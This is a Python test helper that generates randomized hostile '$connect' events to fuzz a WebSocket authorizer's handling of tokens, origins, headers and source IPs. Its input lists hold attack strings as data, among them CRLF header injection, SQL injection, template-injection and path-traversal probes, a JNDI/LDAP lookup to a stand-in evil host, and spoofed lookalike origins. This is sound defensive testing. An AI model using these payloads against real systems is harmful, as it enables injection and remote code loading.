"""Hostile `$connect` events: every part that a client has a say in, in forms good and bad.

A part is drawn from a few good and many bad forms, so that some events are let in.
"""

from collections.abc import Sequence
from random import Random
from typing import Any, Final

from tests import examples

ABSENT: Final = object()
"""Stands for a key that the event lacks."""

TEXTS: Final[tuple[Any, ...]] = (
    *("", " ", "a b", "m 1", "m1/..", "x" * 64, "x" * 65, "x" * 20_000, "\x00", "\ud800", "😀"),
    *("m1\r\nX-Injected: 1", "%00", "..%2f", "'; DROP TABLE x; --", "{{7*7}}", "null", "M#m1"),
    *("${jndi:ldap://evil.test}", "K#", "e30.e30.e30", "." * 300, "-", "_", "\u202em1"),
)
ROOMS: Final = ("m1", "m-2", "T_3")
IPS: Final = (
    *("192.0.2.7", "198.51.100.1", "2001:db8::1", "2001:db8:0:0:1::", "::ffff:192.0.2.7"),
    *("fe80::1%eth0", "::", "255.255.255.255"),
)
NO_IPS: Final[tuple[Any, ...]] = (
    *("", "unknown", "192.0.2.7:443", "999.1.1.1", "01.2.3.4", "::1%", " 192.0.2.7", "192.0.2"),
    *("192.0.2.7, 198.51.100.1", "x" * 9_000, None, ["192.0.2.7"], {}, ABSENT),
)
ORIGIN: Final = "https://scores.example.com"
ORIGINS: Final[tuple[Any, ...]] = (
    *("null", "", "https://", "https://[", "https://evil.test", "http://scores.example.com"),
    *("https://scores.example.com.evil.test", "https://evilscores.example.com", "*", "://"),
    *("https://scores.example.com:444", "https://scores.example.com/", "\x00", "😀", None, 5, []),
    "https://scores.example.com https://evil.test",
)
SHAPES: Final[tuple[Any, ...]] = (None, [], "", "token=x", 5, True, {}, {"": ""}, {"token": None})
_ODD_NAMES: Final = ("", "Token", "tokens", "token[]", "__proto__", "\x00", "match_id ", "x" * 900)


def hostile_handshake(rng: Random, *, token: str, connection_id: str) -> dict[str, Any]:
    """An event of the authorizer's. `token` is a good one: some events bring it, changed or not."""
    event = examples.event("authorizer")
    event["queryStringParameters"] = _query(rng, token)
    event["multiValueQueryStringParameters"] = rng.choice((ABSENT, None, {"token": [token, "x"]}))
    event["headers"] = _headers(rng, token)
    event["multiValueHeaders"] = rng.choice((ABSENT, None, {"Origin": [ORIGIN, "https://evil"]}))
    for name in [name for name, value in event.items() if value is ABSENT]:
        del event[name]
    event["requestContext"]["connectionId"] = connection_id
    event["requestContext"]["identity"] = {"sourceIp": rng.choice(IPS)}
    return event


def with_ip(event: dict[str, Any], ip: Any) -> dict[str, Any]:
    event["requestContext"]["identity"] = {} if ip is ABSENT else {"sourceIp": ip}
    return event


def _query(rng: Random, token: str) -> Any:
    if rng.random() < 0.1:
        return rng.choice(SHAPES)
    query: dict[str, Any] = {}
    if rng.random() < 0.6:
        query["token"] = token if rng.random() < 0.7 else _token(rng, token)
    if rng.random() < 0.1:
        query["ticket"] = rng.choice(TEXTS)
    for name in ("match_id", "tournament_id"):
        if rng.random() < 0.4:
            query[name] = rng.choice(ROOMS if rng.random() < 0.5 else TEXTS)
    if rng.random() < 0.2:
        query[rng.choice(_ODD_NAMES)] = rng.choice((*TEXTS, token, None, 5, [token]))
    return query


def _headers(rng: Random, token: str) -> Any:
    if rng.random() < 0.05:
        return rng.choice(SHAPES)
    headers: dict[Any, Any] = {"Host": rng.choice(("example", *TEXTS))}
    if rng.random() < 0.7:
        origin = ORIGIN if rng.random() < 0.7 else rng.choice(ORIGINS)
        headers[_cased(rng, "Origin")] = origin
    if rng.random() < 0.4:
        headers[_cased(rng, "Sec-WebSocket-Protocol")] = _sub_protocols(rng, token)
    if rng.random() < 0.3:
        scheme = rng.choice(("Bearer ", "bearer ", "BEARER  ", "Basic ", "", "Bearer"))
        headers[_cased(rng, "Authorization")] = scheme + _token(rng, token)
    if rng.random() < 0.2:
        headers["X-Forwarded-For"] = rng.choice((*IPS, *TEXTS))
    return headers


def _sub_protocols(rng: Random, token: str) -> str:
    offers: Sequence[str] = (
        *("scorecast.v1", "scorecast.v2", "", "bearer.", f"bearer.{token}", "Bearer.x", "a\r\nb"),
        *(f"bearer.{_token(rng, token)}", "x" * 5_000, "\x00", "scorecast.v1\x00"),
    )
    return rng.choice((",", ", ", " ,", ";")).join(rng.choices(offers, k=rng.randint(1, 4)))


def _token(rng: Random, token: str) -> str:
    at = rng.randrange(len(token))
    changed = token[:at] + rng.choice("Aa.=\x00é") + token[at + rng.randrange(2) :]
    return rng.choice((token, changed, token[:at], token + token, f" {token} ", rng.choice(TEXTS)))


def _cased(rng: Random, name: str) -> str:
    return rng.choice((name, name.lower(), name.upper()))
